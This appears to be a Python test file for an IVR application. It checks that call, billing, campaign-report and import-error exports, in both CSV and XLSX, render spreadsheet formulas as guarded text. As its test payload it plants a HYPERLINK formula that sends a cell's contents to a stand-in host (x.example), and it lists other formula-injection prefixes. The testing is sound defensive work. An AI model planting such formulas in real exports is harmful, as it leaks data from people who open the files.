"""A formula fed through every export: the area's calls (CSV and XLSX) and billing statement,
and the commands that write tables (`ivr calls --csv`, `ivr billing statement`, `ivr campaign
report --csv`, `ivr campaign import --errors`). Each shows it as text, never as a formula; a
negative amount stays a number."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
from pathlib import Path

from area_world import RULES, World
from openpyxl import load_workbook
from sqlalchemy import select, update

from ivr import tables
from ivr.campaigns.models import Appointment, Contact
from ivr.records.models import Call

FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
GUARDED = "'" + FORMULA
MONTH = "2026-11"


def cells_of_csv(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def csv_in(folder: Path) -> bytes:
    """The one CSV a command wrote into folder."""
    (found,) = folder.glob("*.csv")
    return found.read_bytes()


async def ivr(world: World, *argv: str, code: int = 0) -> str:
    """The command, on the world's database and rules, as a manager runs it."""
    s = world.services.settings
    env = {k: v for k, v in os.environ.items() if not k.startswith("IVR_")}
    env.update(IVR_DB_URL=s.db_url, IVR_RULES=str(RULES), IVR_HOME=str(s.home),
               IVR_INSTANCE=s.instance, IVR_ASTERISK_ROOT=str(s.asterisk_root))  # fmt: skip
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "ivr", *argv, env=env, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    out, _ = await process.communicate()
    assert process.returncode == code, out.decode()
    return out.decode()


async def plant(world: World) -> None:
    """The formula as a caller's name and as the contact of Acme's first appointment."""
    async with world.services.sessions.begin() as session:
        await session.execute(
            update(Call).where(Call.linkedid == "a.2").values(caller_name=FORMULA)
        )
        first = world.ids["a_appointments"][0]
        contact = await session.scalar(
            select(Appointment.contact_id).where(Appointment.id == first)
        )
        await session.execute(
            update(Contact).where(Contact.id == contact)
            .values(name=FORMULA, company=FORMULA, contact_person="")
        )  # fmt: skip


async def test_a_formula_is_text_in_every_export(world: World, tmp_path: Path) -> None:
    await plant(world)
    client = await world.login("admin@acme.example")
    calls = cells_of_csv(await (await client.get("/area/calls.csv")).read())
    assert GUARDED in calls and FORMULA not in calls, repr(calls)
    book = load_workbook(io.BytesIO(await (await client.get("/area/calls.xlsx")).read()))
    xlsx = [c for row in book.active.iter_rows() for c in row]
    assert [c.value for c in xlsx if c.value == GUARDED] and all(c.data_type != "f" for c in xlsx)
    statement = cells_of_csv(
        await (await client.get(f"/area/billing/statement.csv?month={MONTH}")).read()
    )
    assert GUARDED in statement and FORMULA not in statement
    await client.close()

    printed = cells_of_csv((await ivr(world, "calls", "--csv", "--client", "acme")).encode())
    assert GUARDED in printed and FORMULA not in printed
    statements, imports = tmp_path / "statement", tmp_path / "import"
    await ivr(world, "billing", "statement", "acme", "--month", MONTH, "--out", str(statements))
    written = cells_of_csv(csv_in(statements))
    assert GUARDED in written and FORMULA not in written

    report = cells_of_csv((await ivr(world, "campaign", "report", "--csv")).encode())
    assert report and not any(c.startswith(tables.FORMULA_START) for c in report)

    imports.mkdir()
    bad = tmp_path / "contacts.csv"
    quoted = FORMULA.replace('"', '""')
    bad.write_text(
        "number,company,contact_person,address,name\n"
        f'"{quoted}","{quoted}","{quoted}","{quoted}","{quoted}"\n'
    )
    await ivr(world, "campaign", "import", "acme-visits", str(bad),
              "--errors", str(imports / "errors.csv"), "--quiet", code=1)  # fmt: skip
    assert not any(c.startswith(tables.FORMULA_START) for c in cells_of_csv(csv_in(imports)))


def test_the_writer_keeps_numbers_and_guards_text() -> None:
    from decimal import Decimal

    rows = [["-2+3", " =1", "+39061110001", "@SUM(A1)", "\tcmd", Decimal("-12.50"), 3, None]]
    assert list(csv.reader(io.StringIO(tables.csv_text(rows)))) == [
        ["'-2+3", "' =1", "'+39061110001", "'@SUM(A1)", "'\tcmd", "-12.50", "3", ""]
    ]
    book = load_workbook(io.BytesIO(tables.xlsx_bytes(rows)))
    values = [c.value for c in next(book.active.iter_rows())]
    assert values[:5] == ["'-2+3", "' =1", "'+39061110001", "'@SUM(A1)", "'\tcmd"]
    assert values[5] == -12.5 and values[6] == 3
